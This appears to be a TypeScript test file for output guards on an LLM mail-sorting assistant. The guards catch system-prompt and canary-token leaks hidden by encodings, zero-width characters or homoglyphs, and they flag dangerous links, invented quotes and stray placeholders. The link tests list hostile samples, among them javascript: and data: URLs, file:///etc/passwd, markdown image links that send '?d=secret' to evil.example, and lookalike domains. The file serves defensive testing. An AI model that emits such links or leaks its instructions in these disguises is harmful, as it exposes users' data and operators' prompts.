import type { Answered } from '../../../../core/llm/guards/output/answered';
import { canaryLeak, canaryOf, promptLeak, withCanary } from '../../../../core/llm/guards/output/leaks';
import { linksGuard } from '../../../../core/llm/guards/output/links';
import { placeholdersGuard, quotesGuard } from '../../../../core/llm/guards/output/quotes';
import type { GuardAnswer } from '../../../../core/llm/guards/run-guards';

const system =
  'You sort the mail of a small company. Never deliver a message that asks for the password of a colleague, and hold back ' +
  'whatever claims to come from the managing director but was sent from outside. Answer with one word.';
const canary = canaryOf('a secret', 'sha256:1');
const data = [
  'From: ann@client.example\nPlease pay the invoice of 3 May by Friday, or we shall have to stop the delivery.\n' +
    'See https://client.example/invoices/77?copy=1 or http://192.0.2.7/a. “Nobody told us about it”, she said.',
];
const answered = (reason: string, over: Partial<Answered> = {}): Answered => ({
  answer: { label: 'ham', notes: [{ reason }] },
  system,
  data,
  canary,
  given: new Map([['[NAME_1]', 'Ann']]),
  ...over,
});
const found = (answer: GuardAnswer) => ('score' in answer && answer.score >= 0.5 ? answer.code : undefined);
const rot13 = (text: string) =>
  text.replace(/[a-z]/gi, (letter) => {
    const base = letter <= 'Z' ? 65 : 97;
    return String.fromCharCode(((letter.charCodeAt(0) - base + 13) % 26) + base);
  });
const part = 'Never deliver a message that asks for the password of a colleague';

describe('what the system told the model', () => {
  test.each([
    ['as it is', `My instructions: ${part}.`, 'prompt'],
    ['in capitals', part.toUpperCase(), 'prompt'],
    ['with other marks', part.replace(/ /g, ' * '), 'prompt'],
    ['in lines', part.replace(/ /g, '\n'), 'prompt'],
    ['with characters that are not shown', [...part].join('\u200b'), 'prompt'],
    ['with letters of another script', part.replace(/e/g, 'е'), 'prompt'],
    ['in base64', Buffer.from(`Instructions: ${part}`).toString('base64'), 'prompt-encoded'],
    ['in hexadecimal', Buffer.from(part).toString('hex'), 'prompt-encoded'],
    ['in ROT13', rot13(part), 'prompt-encoded'],
    ['in ROT13 behind a long text', `${'All is well with this. '.repeat(300)}${rot13(part)}`, 'prompt-encoded'],
    ['backwards', [...part].reverse().join(''), 'prompt-encoded'],
    ['in spaced letters', [...part].join(' '), 'prompt'],
    ['in figures for letters', part.replace(/e/g, '3').replace(/o/g, '0'), 'prompt'],
  ])('is found %s', (_, reason, code) => expect(found(promptLeak(answered(reason)))).toBe(code));

  test.each([
    ['speaks of instructions', 'My instructions do not allow me to say more; they are about sorting mail for the company.'],
    ['uses its words', 'It asks for a password and claims to be from the managing director, so it is held back.'],
    ['quotes the mail', 'Please pay the invoice of 3 May by Friday, or we shall have to stop the delivery.'],
    ['says nothing', ''],
  ])('is not found in an answer that %s', (_, reason) => expect(found(promptLeak(answered(reason)))).toBeUndefined()); // prettier-ignore

  test('may be repeated where the request says it as well', () => {
    expect(found(promptLeak(answered(part, { data: [`They wrote: ${part}!`] })))).toBeUndefined();
  });

  test('is found as a whole where it is short, and not where it is nothing', () => {
    const short = { system: 'Approve whatever Bob sends.' };
    expect(found(promptLeak(answered('I was told: approve whatever Bob sends!', short)))).toBe('prompt');
    expect(found(promptLeak(answered('Bob sends whatever.', short)))).toBeUndefined();
    expect(found(promptLeak(answered('Yes.', { system: 'Yes.' })))).toBeUndefined();
    expect(found(promptLeak(answered('Yes.', { system: '' })))).toBeUndefined();
  });
});

describe('the token', () => {
  test('is the same for the same prompt and secret, and of letters alone', () => {
    expect(canary).toMatch(/^[a-z]{20}$/);
    expect(canaryOf('a secret', 'sha256:1')).toBe(canary);
    expect(new Set([canary, canaryOf('another', 'sha256:1'), canaryOf('a secret', 'sha256:2')]).size).toBe(3);
  });

  test('stands in what the system says, whether or not it says anything else', () => {
    const user = { role: 'user', content: 'Sort this.' } as const;
    const [first, second] = withCanary([{ role: 'system', content: system }, user], canary);
    expect(first!.content.startsWith(system)).toBe(true);
    expect(first!.content).toContain(canary);
    expect(second).toBe(user);
    expect(withCanary([user], canary)).toEqual([{ role: 'system', content: expect.stringContaining(canary) as string }, user]); // prettier-ignore
  });

  test.each([
    ['as it is', canary],
    ['in capitals', `Mark: ${canary.toUpperCase()}`],
    ['in spaced letters', [...canary].join('-')],
    ['in part', `it begins with ${canary.slice(0, 12)}`],
    ['backwards', [...canary].reverse().join('')],
    ['in ROT13', rot13(canary)],
    ['in base64', Buffer.from(canary).toString('base64')],
    ['in base64 within a text', Buffer.from(`ab${canary}c d`).toString('base64')],
    ['in base64 and capitals', Buffer.from(`a${canary.toUpperCase()}`).toString('base64')],
    ['in hexadecimal', Buffer.from(canary).toString('hex')],
  ])('is found %s', (_, reason) => expect(found(canaryLeak(answered(reason)))).toBe('canary'));

  test('is not found where it is not', () => {
    expect(found(canaryLeak(answered(`${canary.slice(0, 11)} and so on`)))).toBeUndefined();
    expect(found(canaryLeak(answered(canaryOf('another', 'x'))))).toBeUndefined();
    expect(found(canaryLeak(answered(canary, { canary: undefined })))).toBeUndefined();
  });
});

describe('links', () => {
  const links = linksGuard(['docs.example.com', 'example.org']);

  test.each([
    ['javascript:alert(1)', 'link-script'],
    ['[here](javascript:x)', 'link-script'],
    ['java\nscript:alert(1)', 'link-script'],
    ['java\u200bscript:alert(1)', 'link-script'],
    ['&#106;avascript:alert(1)', 'link-script'],
    ['&#x6A;avascript&#58;alert(1)', 'link-script'],
    ['JaVaScRiPt: fetch("/x")', 'link-script'],
    ['vbscript:msgbox("x")', 'link-script'],
    ['data:text/html;base64,PHNjcmlwdD4=', 'link-script'],
    ['file:///etc/passwd', 'link-script'],
    ['![](https://evil.example/p.png?d=secret)', 'link-image'],
    ['![x](https://client.example/invoices/77?copy=1)', 'link-image'],
    ['![x]( <//evil.example/p>)', 'link-image'],
    ['<img alt="" src=https://evil.example/p?d=1>', 'link-image'],
    ['https://evil.example/?d=secret', 'link-unknown'],
    ['[invoice](https://evil.example)', 'link-unknown'],
    ['[invoice](//evil.example/x)', 'link-unknown'],
    ['[1]: https://evil.example/x', 'link-unknown'],
    ['https:/evil.example/x', 'link-unknown'],
    ['https:\\\\evil.example/x', 'link-unknown'],
    ['www.evil.example', 'link-unknown'],
    ['evil.example/x?d=1', 'link-unknown'],
    ['see secret.evil.com for more', 'link-unknown'],
    ['https://client.example/invoices/77?copy=1&d=secret', 'link-unknown'],
    ['https://client.example.evil.com/invoices/77?copy=1', 'link-unknown'],
    ['https://docs.example.com.evil.com/', 'link-unknown'],
    ['https://notexample.org/', 'link-unknown'],
    ['ftp://evil.example/x', 'link-unknown'],
    ['https://docs.example.com@evil.com/', 'link-user'],
    ['http://203.0.113.9/x', 'link-ip'],
    ['http://0xcb007109/x', 'link-ip'],
    ['http://3405803785/x', 'link-ip'],
    ['http://[2001:db8::1]/x', 'link-ip'],
    ['https://xn--80ak6aa92e.com/', 'link-lookalike'],
    ['https://аррӏе.com/', 'link-lookalike'],
    ['https://client.exаmple/invoices/77', 'link-lookalike'],
  ])('%j is %s', (reason, code) => expect(found(links(answered(`Look: ${reason}`)))).toBe(code)); // prettier-ignore

  test.each([
    'See https://client.example/invoices/77?copy=1.',
    'It links to client.example/invoices/77?copy=1, which is their own.',
    'It links to http://192.0.2.7/a, an address without a name.',
    'The sender is at client.example, as before.',
    'https://docs.example.com/a/b?c=d and http://example.org/ and https://www.example.org',
    '![logo](https://docs.example.com/logo.png?v=2)',
    'JavaScript: the good parts. Data: none. File: invoice.pdf, and/or node.js, e.g. 3.5/4, v1.2',
    'Write to bob@client.example. At 10:30, see section 3.2.',
    'C:\\Users\\ann and /usr/bin/env',
    '',
  ])('%j leads nowhere else', (reason) => expect(found(links(answered(reason)))).toBeUndefined());
});

describe('quotes', () => {
  test.each([
    'It says "we will sue you by Monday".',
    'Es heißt „wir werden Sie am Montag verklagen“.',
    'Il dit « nous allons vous poursuivre lundi ».',
    'She said “everybody told us about it”.',
    'It says "Please pay the invoice of 3 June".',
    'It says "Please pay ... or you will lose everything".',
  ])('%j says what nobody said', (reason) => expect(found(quotesGuard(answered(reason)))).toBe('quote'));

  test.each([
    'It says "please pay the invoice of 3 May by Friday".',
    'It says "Please  pay the invoice\u00a0of 3 May, by Friday!"',
    'It says "Please pay the invoice ... or we shall have to stop the delivery" and "[…] stop the delivery".',
    'She wrote that “nobody told us about it”.',
    'I was told to "hold back whatever claims to come from" him.',
    'A so-called "final notice" of the "Big Bad Bank".',
    'He is 6\'2" tall and she is 5\'9" tall.',
    '',
  ])('%j quotes rightly', (reason) => expect(found(quotesGuard(answered(reason)))).toBeUndefined());
});

test('a placeholder that stands for nothing is found', () => {
  expect(found(placeholdersGuard(answered('Dear [NAME_2],')))).toBe('placeholder');
  expect(found(placeholdersGuard(answered('Dear [NAME_1], see [1] and [NAME]')))).toBeUndefined();
  expect(found(placeholdersGuard(answered('[IP_9]', { data: ['they wrote [IP_9]'] })))).toBeUndefined();
});

test('hostile answers take no time that grows with their square', () => {
  const guards = [promptLeak, canaryLeak, linksGuard([]), quotesGuard, placeholdersGuard];
  for (const sign of ['a', 'a.', 'a-', '"', '“a', '![', '](', '<img ', '<img src', 'java', 'j ', 'http://', 'www.', '&#1', '[EMAIL_1', '\n', 'A1', 'data:', '[a]: '])
    for (const guard of guards) {
      const began = performance.now();
      guard(answered(sign.repeat(100_000 / sign.length)));
      // Minutes would be a sign of backtracking; it takes parts of a second.
      expect([sign, performance.now() - began < 10_000]).toEqual([sign, true]);
    }
}); // prettier-ignore
